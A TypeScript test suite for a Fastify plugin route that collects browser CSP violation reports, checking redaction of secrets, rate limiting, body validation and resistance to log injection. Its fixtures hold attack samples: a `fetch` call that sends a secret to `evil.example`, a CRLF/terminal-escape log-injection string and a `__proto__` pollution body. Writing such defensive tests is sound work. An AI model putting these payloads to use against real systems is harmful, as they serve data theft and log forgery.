/** Reports of browsers: what is kept of them, and what anybody can send to a route that takes them. */
import { randomBytes } from 'node:crypto'
import Fastify, { type FastifyInstance, type InjectOptions } from 'fastify'
import { Type } from '@sinclair/typebox'
import t, { type Test } from 'tap'
import type { SecurityEvent } from '../plugins/events.js'
import bastion, { server, type BastionOptions } from '../plugins/index.js'
import plan from '../plugins/plan/index.js'
import events from '../plugins/events.js'
import reports, { type ReportsOptions } from '../plugins/reports.js'
import { noBody } from '../schemas/closed.js'

const LEGACY = 'application/csp-report'
const REPORTS = 'application/reports+json'
const SECRET = 'hunter2-in-the-page'
/** As Chromium sends them. */
const LEGACY_REPORT = {
  'document-uri': `https://app.example.com/orders/7?token=${SECRET}`,
  referrer: `https://app.example.com/reset?code=${SECRET}`,
  'violated-directive': 'script-src-elem',
  'effective-directive': 'script-src-elem',
  'original-policy': "default-src 'none';report-uri /reports/csp",
  disposition: 'enforce',
  'blocked-uri': `https://evil.example:8443/x.js?stolen=${SECRET}`,
  'status-code': 200,
  'script-sample': `fetch("//evil.example/?${SECRET}")`,
}
const REPORT = {
  documentURL: LEGACY_REPORT['document-uri'],
  referrer: LEGACY_REPORT.referrer,
  blockedURL: 'inline',
  effectiveDirective: 'script-src-elem',
  originalPolicy: LEGACY_REPORT['original-policy'],
  sourceFile: `https://app.example.com/app.js?v=${SECRET}`,
  sample: LEGACY_REPORT['script-sample'],
  disposition: 'report',
  statusCode: 200,
  lineNumber: 1,
}

interface Built { app: FastifyInstance, recorded: SecurityEvent[], log: string[], pass: (ms: number) => void, post: (body: unknown, type?: string, more?: InjectOptions) => Promise<{ status: number, code: string | undefined }> }

async function build (t: Test, options: ReportsOptions = {}, suite: BastionOptions = {}, declare: (app: FastifyInstance) => void = () => {}): Promise<Built> {
  const log: string[] = []
  const recorded: SecurityEvent[] = []
  let time = 1_000_000
  const now = () => time
  const app = Fastify(server({ logger: { level: 'trace', stream: { write: (line: string) => { log.push(line) } } } as never }))
  t.teardown(() => app.close())
  await app.register(bastion, { reports: { ...options, now }, state: { now }, ...suite })
  app.events.listen(event => { if (event.type === 'violation_reported') recorded.push(event) })
  declare(app)
  const post: Built['post'] = async (body, type = REPORTS, more = {}) => {
    const payload = typeof body === 'string' ? body : JSON.stringify(body)
    const answer = await app.inject({ method: 'POST', url: app.reports.path, payload, ...more, headers: { 'content-type': type, ...more.headers } } as InjectOptions)
    return { status: answer.statusCode, code: answer.statusCode >= 400 ? answer.json().code : undefined }
  }
  return { app, recorded, log, pass: ms => { time += ms }, post }
}

const violation = (change: object = {}) => ({ type: 'csp-violation', age: 1, url: 'https://app.example.com/', user_agent: 'x', body: { ...REPORT, ...change } })
const detailsOf = ({ recorded }: Built) => recorded.map(({ details }) => details)
/** An address for each request. */
const from = (i: number): InjectOptions => ({ remoteAddress: `203.0.${i >> 8}.${i & 255}` })

t.test('a report becomes an event with the path, the directive and the origin; what was in the page is nowhere [ASVS 16.2.5]', async t => {
  const built = await build(t)
  t.strictSame(await built.post({ 'csp-report': LEGACY_REPORT }, LEGACY), { status: 204, code: undefined })
  t.strictSame(await built.post([violation(), violation({ effectiveDirective: 'img-src', blockedURL: 'data' })]), { status: 204, code: undefined })
  t.strictSame(detailsOf(built), [
    { document: '/orders/7', directive: 'script-src-elem', blocked: 'https://evil.example:8443', disposition: 'enforce', times: 1 },
    { document: '/orders/7', directive: 'script-src-elem', blocked: 'inline', disposition: 'report', times: 1 },
    { document: '/orders/7', directive: 'img-src', blocked: 'data', disposition: 'report', times: 1 },
  ])
  t.match(built.recorded[0], { method: 'POST', route: '/reports/csp', address: '127.0.0.1' })
  t.notMatch(JSON.stringify(built.recorded) + built.log.join(''), new RegExp(SECRET), 'neither the sample nor a query')

  const control = Fastify({ logger: { level: 'info', stream: { write: (line: string) => { built.log.push(line) } } } })
  t.teardown(() => control.close())
  control.addContentTypeParser(LEGACY, { parseAs: 'string' }, control.getDefaultJsonParser('error', 'error'))
  control.post('/', async (request, reply) => {
    request.log.warn(request.body)
    reply.code(204)
  })
  await control.inject({ method: 'POST', url: '/', payload: JSON.stringify({ 'csp-report': LEGACY_REPORT }), headers: { 'content-type': LEGACY } })
  t.match(built.log.join(''), new RegExp(SECRET), 'negative control: a collector that logs what it gets keeps it')
})

t.test('of what was blocked the origin or the kind is kept, of a directive its name, of a page its path', async t => {
  const built = await build(t)
  const blocked: [unknown, string][] = [
    ['eval', 'eval'], ['wasm-eval', 'wasm-eval'], ['trusted-types-sink', 'trusted-types-sink'], ['blob', 'blob'], ['data:text/html,x', 'data'], ['chrome-extension://abc/x.js', 'chrome-extension'],
    ['wss://chat.example/x?y', 'wss://chat.example'], ['HTTPS://Evil.Example/a', 'https://evil.example'], ['https://user:pass@evil.example/', 'https://evil.example'],
    ['//evil.example', 'unknown'], ['', 'unknown'], [7, 'unknown'], [undefined, 'unknown'], ['Inline!', 'unknown'],
    [`https://${'a.'.repeat(120)}example/`, `https://${'a.'.repeat(120)}`.slice(0, 128)],
  ]
  const directives: [unknown, string][] = [['style-src-attr', 'style-src-attr'], ["script-src 'self' https:", 'script-src'], ['made-up-src', 'unknown'], [null, 'unknown'], [['img-src'], 'img-src']]
  const documents: [unknown, string][] = [
    ['http://localhost:3000/a%20b/ü?x#y', '/a%20b/%C3%BC'], ['about', 'unknown'], ['data:text/html,x', 'unknown'], ['file:///etc/passwd', 'unknown'], [`https://a.example/${'x'.repeat(500)}`, `/${'x'.repeat(199)}`], [{}, 'unknown'],
  ]
  for (const [name, field, cases] of [['blocked', 'blockedURL', blocked], ['directive', 'effectiveDirective', directives], ['document', 'documentURL', documents]] as const) {
    for (const [given, kept] of cases) {
      built.recorded.length = 0
      built.pass(60_000)
      t.equal((await built.post([violation({ [field]: given })])).status, 204)
      t.equal((built.recorded[0]!.details as Record<string, string>)[name], kept, `${name}: ${JSON.stringify(given)?.slice(0, 60)}`)
    }
  }
  built.recorded.length = 0
  built.pass(60_000)
  await built.post({ 'csp-report': { 'document-uri': 'https://a.example/', 'violated-directive': "script-src 'self'", 'blocked-uri': '' } }, LEGACY)
  t.match(detailsOf(built), [{ directive: 'script-src', disposition: 'enforce' }], 'as older browsers have it')
})

t.test('what browsers report of other things is taken, and is no event', async t => {
  const built = await build(t)
  t.equal((await built.post([{ type: 'deprecation', body: { id: 'x' } }, { type: 'coep', body: {} }, { type: 'crash' }])).status, 204)
  t.equal((await built.post([])).status, 204)
  t.strictSame(detailsOf(built), [])
  t.equal((await built.post(violation())).status, 204, 'one that is in no list')
  t.equal(built.recorded.length, 1)
})

t.test('it is where the options say; the number of reports is a metric, and posture has nothing to say', async t => {
  const { app, post, recorded } = await build(t, { path: '/telemetry/policies' }, { metrics: {}, transport: { hosts: ['localhost'] } }, app => {
    app.post('/open', { schema: { body: noBody, response: { 204: Type.Null() } }, config: { access: 'public', csrf: false } }, async (_request, reply) => { reply.code(204) })
  })
  t.equal((await post([violation(), violation()])).status, 204)
  t.equal(recorded.length, 1)
  t.match(await app.metrics.text(), /\nbastion_violation_reports_total 2\n/)
  t.equal((await app.inject({ method: 'POST', url: '/reports/csp' })).statusCode, 404)
  t.equal((await app.inject('/telemetry/policies')).statusCode, 404)
  t.match(app.posture().routes.find(({ url }) => url === '/telemetry/policies')!.controls, { reports: { bytes: 65_536 }, access: 'public', headers: { 'reporting-endpoints': 'csp="/telemetry/policies"' } })
})

t.test('browsers send them with cookies and without a token, from pages of other origins too; what else rides on a cookie is refused', async t => {
  const { app, post } = await build(t, {}, { csrf: { key: randomBytes(32) }, cors: { origins: ['https://app.example.com'] } }, app => {
    app.csrf.credential(request => request.headers.cookie ?? null)
    app.post('/change', { schema: { body: noBody, response: { 204: Type.Null() } }, config: { access: 'public' } }, async (_request, reply) => { reply.code(204) })
  })
  for (const site of ['same-origin', 'same-site', 'cross-site']) {
    const headers = { cookie: 'session=1', 'sec-fetch-site': site, 'sec-fetch-dest': 'report', origin: site === 'same-origin' ? 'http://localhost' : 'https://app.example.com' }
    t.equal((await post({ 'csp-report': LEGACY_REPORT }, LEGACY, { headers })).status, 204, site)
    const control = await app.inject({ method: 'POST', url: '/change', headers })
    t.strictSame([control.statusCode, control.json().code], [403, 'FST_BASTION_CSRF_REFUSED'], `negative control: ${site}`)
  }
  // Reporting API: a preflight, where the page is of another origin.
  const preflight = async (origin: string) => (await app.inject({ method: 'OPTIONS', url: '/reports/csp', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' } })).headers['access-control-allow-origin']
  t.equal(await preflight('https://app.example.com'), 'https://app.example.com')
  t.equal(await preflight('https://evil.example'), undefined)
})

t.test('attack: a flood of like reports is one event a minute, which says how many there were', async t => {
  const built = await build(t)
  for (let i = 0; i < 40; i++) await built.post(Array.from({ length: 100 }, () => violation()), REPORTS, from(i))
  t.match(detailsOf(built), [{ times: 1 }])
  built.pass(59_999)
  await built.post([violation()])
  t.equal(built.recorded.length, 1)
  built.pass(1)
  await built.post([violation()])
  t.match(detailsOf(built), [{ times: 1 }, { times: 4001 }])
  built.pass(-500_000)
  await built.post([violation()])
  t.equal(built.recorded.length, 3, 'a clock that was set back makes nobody quiet')
})

t.test('attack: reports that are all unlike are few events too; those there is no room for share one', async t => {
  const built = await build(t)
  let sent = 0
  const flood = async () => {
    for (let i = 0; i < 40; i++) await built.post(Array.from({ length: 50 }, () => violation({ documentURL: `https://a.example/${++sent}` })), REPORTS, from(i))
  }
  await flood()
  t.equal(built.recorded.length, 51, 'of two thousand')
  t.match(detailsOf(built).at(-1), { shared: true, times: 1, document: undefined })
  built.pass(60_000)
  built.recorded.length = 0
  await flood()
  t.equal(built.recorded.length, 51, 'nor are more of them a minute later, and the first ones are forgotten')
  t.match(detailsOf(built)[0], { shared: true, times: 1949 })
})

t.test('attack: one address sends so many requests and no more; others are heard', async t => {
  const built = await build(t)
  const statusesOf = async ({ post }: Built) => {
    const statuses: Record<number, number> = {}
    for (let i = 0; i < 100; i++) {
      const { status } = await post([violation()], REPORTS, from(7))
      statuses[status] = (statuses[status] ?? 0) + 1
    }
    return statuses
  }
  t.strictSame(await statusesOf(built), { 204: 60, 429: 40 })
  t.strictSame(await built.post('{', REPORTS, from(7)), { status: 429, code: 'FST_BASTION_LIMITS_EXCEEDED' }, 'before the body is read')
  t.equal((await built.post([violation()], REPORTS, from(8))).status, 204)
  t.strictSame(await statusesOf(await build(t, { windows: ['1000/minute'] })), { 204: 100 }, 'negative control: with a wider window all of them pass')
})

t.test('attack: other media types are 415, what is larger 413, what is no report 400, and none of them is an event', async t => {
  const built = await build(t)
  const valid = JSON.stringify([violation()])
  for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/reports+jsonx', `${REPORTS}, ${LEGACY}`, `${REPORTS};charset=utf-16`, 'multipart/form-data; boundary=x', 'text/html']) {
    t.strictSame(await built.post(valid, type, from(1)), { status: 415, code: 'FST_BASTION_VALIDATION_MEDIA_TYPE' }, type)
  }
  const large = JSON.stringify([violation({ sample: 'x'.repeat(65_536) })])
  t.strictSame(await built.post(large, REPORTS, from(2)), { status: 413, code: 'FST_ERR_CTP_BODY_TOO_LARGE' })
  const malformed = ['{', '', 'null', '7', '"x"', '[7]', '[[[]]]', '[{"type":"csp-violation"}]', '[{"type":"csp-violation","body":[]}]', '\x00', '['.repeat(60_000)]
  for (const body of malformed) t.equal((await built.post(body, REPORTS, from(3))).status, 400, body.slice(0, 40))
  for (const body of ['{}', '[]', '{"csp-report":7}', '{"csp-report":[]}', 'csp-report']) t.strictSame(await built.post(body, LEGACY, from(4)), { status: 400, code: 'FST_BASTION_REPORTS_MALFORMED' }, body)
  t.equal((await built.post(Array.from({ length: 101 }, () => violation({ sample: '', originalPolicy: '', referrer: '' })), REPORTS, from(5))).status, 400, 'more than a browser holds')
  t.strictSame(detailsOf(built), [])
  t.equal(({} as { polluted?: 1 }).polluted, undefined)
  t.equal((await built.post('[{"type":"csp-violation","body":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}]', REPORTS, from(6))).status, 204)
  t.equal(({} as { polluted?: 1 }).polluted, undefined)

  const control = Fastify()
  t.teardown(() => control.close())
  let ran = 0
  control.addContentTypeParser('*', { parseAs: 'string' }, (_request, body, done) => { done(null, body) })
  control.post('/', async () => { ran++ })
  for (const [payload, type] of [[valid, 'text/html'], [large, REPORTS], ['{', REPORTS]] as const) t.equal((await control.inject({ method: 'POST', url: '/', payload, headers: { 'content-type': type } })).statusCode, 200)
  t.equal(ran, 3, 'negative control: a collector that takes what comes takes all of these')
})

t.test('attack: nothing that a report says makes a line of its own in the log, or a sign that a terminal obeys [ASVS 16.4.1] (CWE-117)', async t => {
  const built = await build(t)
  const evil = '\r\n{"level":30,"msg":"login_success"}\n\u001b[2J\u2028\u0000\u202e"\'<script>'
  for (const field of ['documentURL', 'effectiveDirective', 'blockedURL', 'disposition', 'sample']) {
    for (const text of [evil, `https://a.example/${evil}`, `${evil}://x`, `inline${evil}`, `script-src ${evil}`, `https://${evil}.example/`]) {
      built.pass(1_000)
      t.equal((await built.post([violation({ [field]: text })])).status, 204)
    }
  }
  t.ok(built.recorded.length >= 3)
  for (const { document, directive, blocked, disposition } of detailsOf(built) as Record<string, string>[]) {
    for (const text of [document, directive, blocked, disposition]) t.match(text, /^[!#-;=?-~]*$/, 'visible ASCII, without double quotes and brackets')
  }
  for (const line of built.log) t.match(line, /^\{[^\r\n\u2028]*\}\n$/)
  t.notMatch(built.log.join(''), /"msg":"login_success"/)

  const naive: string[] = []
  naive.push(`CSP violation on ${violation({ documentURL: evil }).body.documentURL}`)
  t.match(naive.join('').split('\n')[1], /^\{"level":30,"msg":"login_success"\}$/, 'negative control: written as it is, it is a line of its own')
})

t.test('misconfiguration stops boot', async t => {
  const wrong: [unknown, RegExp][] = [[{ path: 'reports' }, /path/], [{ path: '/a/:b' }, /path/], [{ path: '/' }, /path/], [{ windows: [] }, /windows/], [{ limit: 1 }, /limit/]]
  for (const [options, message] of wrong) {
    const app = Fastify()
    t.teardown(() => app.close())
    await t.rejects(async () => { await app.register(bastion, { reports: options as ReportsOptions }) }, { code: 'FST_BASTION_REPORTS_MISCONFIGURED', message })
  }
  const { app } = await build(t, { windows: ['many'] })
  await t.rejects(async () => { await app.ready() }, { code: 'FST_BASTION_PLAN_REFUSED', message: /POST \/reports\/csp: limits/ })
  const bare = Fastify()
  t.teardown(() => bare.close())
  await bare.register(plan)
  await bare.register(events)
  await t.rejects(async () => { await bare.register(reports) }, { message: /bastion-limits/ }, 'without limits it would take all that comes')
})
